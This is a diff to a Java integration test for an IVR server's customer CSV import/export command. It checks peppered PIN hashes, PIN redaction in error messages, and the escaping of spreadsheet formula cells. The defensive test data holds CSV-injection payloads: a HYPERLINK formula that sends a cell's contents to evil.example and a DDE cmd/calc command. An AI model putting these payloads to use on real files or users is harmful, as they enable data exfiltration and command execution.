@@ -2,6 +2,9 @@ package dev.ivr.server.cli;
 
 import ch.qos.logback.classic.Level;
 import ch.qos.logback.classic.Logger;
+import dev.ivr.server.crm.pin.PinPepper;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -16,6 +19,8 @@ import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.List;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -72,12 +77,46 @@ class CustomerCliIT {
         String csv = Files.readString(export);
         assertThat(csv).startsWith("id,first_name,last_name,language,tier,phones,accounts,statuses,pin_hashes,"
                 + "attr.balance_band,attr.open_ticket,attr.segment\n");
-        assertThat(csv).contains("C1001,Anna,Kovács,hu,gold,+3612345678;+36301234567,10001,active,\"$argon2id$");
-        assertThat(csv).contains("C1010,Péter,Kiss,hu,standard,+3615550110,10011,blocked,");
+        // cells starting with + (and = - @) are written behind an apostrophe: spreadsheets take them as text
+        // PINs are hashed with the pepper generated into the data directory (0600), which the hash names
+        Path pepper = dir.resolve("data/pin-pepper");
+        assertThat(Files.getPosixFilePermissions(pepper)).isEqualTo(PosixFilePermissions.fromString("rw-------"));
+        assertThat(csv).contains("C1001,Anna,Kovács,hu,gold,'+3612345678;+36301234567,10001,active,\"$pepper$k="
+                + PinPepper.of(Files.readString(pepper).strip().getBytes(StandardCharsets.US_ASCII)).id() + "$argon2id$");
+        assertThat(csv).contains("C1010,Péter,Kiss,hu,standard,'+3615550110,10011,blocked,");
         assertThat(csv.lines()).hasSize(13);
 
         assertThat(run("import-customers", "-c", config.toString(), export.toString())).as(err.toString()).isZero();
         assertThat(out.toString()).contains("0 new, 12 updated");
+        assertThat(run("export-customers", "-c", config.toString(), "--with-pin-hashes", dir.resolve("again.csv").toString()))
+                .isZero();
+        assertThat(Files.readString(dir.resolve("again.csv"))).as("the round trip changes nothing").isEqualTo(csv);
+    }
+
+    @Test
+    void formulasInExportedCellsAreNeutralisedAndImportedBackAsTheyWere() throws Exception {
+        Path in = dir.resolve("formulas.csv");
+        Files.writeString(in, """
+                id,first_name,last_name,tier,attr.note
+                C1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1+1),-1,"+cmd|' /C calc'!A0"
+                """);
+        assertThat(run("import-customers", "-c", config.toString(), in.toString())).as(out + " " + err).isZero();
+        Path export = dir.resolve("export.csv");
+        assertThat(run("export-customers", "-c", config.toString(), export.toString())).isZero();
+        List<String> cells;
+        try (CSVParser p = CSVFormat.DEFAULT.parse(Files.newBufferedReader(export))) {
+            cells = p.getRecords().get(1).toList();
+        }
+        assertThat(cells).hasSize(9).contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(1+1)", "'-1",
+                "'+cmd|' /C calc'!A0");
+        assertThat(cells).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
+                .doesNotStartWith("-").doesNotStartWith("@"));
+        // imported again, every value is what it was
+        assertThat(run("import-customers", "-c", config.toString(), export.toString())).isZero();
+        assertThat(run("export-customers", "-c", config.toString(), dir.resolve("again.csv").toString())).isZero();
+        assertThat(Files.readString(dir.resolve("again.csv"))).isEqualTo(Files.readString(export));
+        assertThat(Files.readString(export)).contains("'=HYPERLINK(").contains("'@SUM(1+1)").contains("'-1")
+                .contains("'+cmd|");
     }
 
     @Test
@@ -90,8 +129,8 @@ class CustomerCliIT {
                 C3,Cili,+36 1 234 5679,10003,4321
                 """);
         assertThat(run("import-customers", "-c", config.toString(), bad.toString())).isEqualTo(1);
-        assertThat(out.toString()).contains(bad + ": line 3: phones: 'call me' is not a phone number")
-                .contains("pins: entry 1 (account 10002) must be 4 to 16 digits")
+        assertThat(out.toString()).contains(bad + ": line 3: phones: entry 1 'call me' is not a phone number")
+                .contains("pins: entry 1 must be 4 to 16 digits")
                 .contains("nothing imported: 1 row(s) rejected (fix them, or use --skip-invalid to import the 2 valid row(s))");
         assertThat(out.toString()).doesNotContain(",12");
 
@@ -99,6 +138,20 @@ class CustomerCliIT {
         assertThat(out.toString()).contains("dry run: 12 record(s) read, 12 valid (12 new, 0 updated), 0 rejected");
         assertThat(run("export-customers", "-c", config.toString(), dir.resolve("empty.csv").toString())).isZero();
         assertThat(Files.readString(dir.resolve("empty.csv")).lines()).as("nothing was imported").hasSize(1);
+
+        // columns shifted (pins and statuses swapped): the PINs are not in the messages
+        Path shifted = dir.resolve("shifted.csv");
+        Files.writeString(shifted, """
+                id,accounts,pins,statuses
+                C1,10001,active,2468
+                C2,10002;10003,active;active,1357;9753
+                """);
+        assertThat(run("import-customers", "-c", config.toString(), shifted.toString())).isEqualTo(1);
+        assertThat(out.toString()).contains("line 2: ").doesNotContain("2468").doesNotContain("1357").doesNotContain("9753");
+        Path headless = dir.resolve("headless.csv");
+        Files.writeString(headless, "C1,Anna,10001,2468\n");
+        assertThat(run("import-customers", "-c", config.toString(), headless.toString())).isEqualTo(1);
+        assertThat(out.toString() + err).contains("is the header row missing?").doesNotContain("2468");
 
         assertThat(run("import-customers", "-c", config.toString(), "--skip-invalid", bad.toString())).isZero();
         assertThat(out.toString()).contains("imported 2 customer(s)").contains("1 row(s) rejected and skipped");
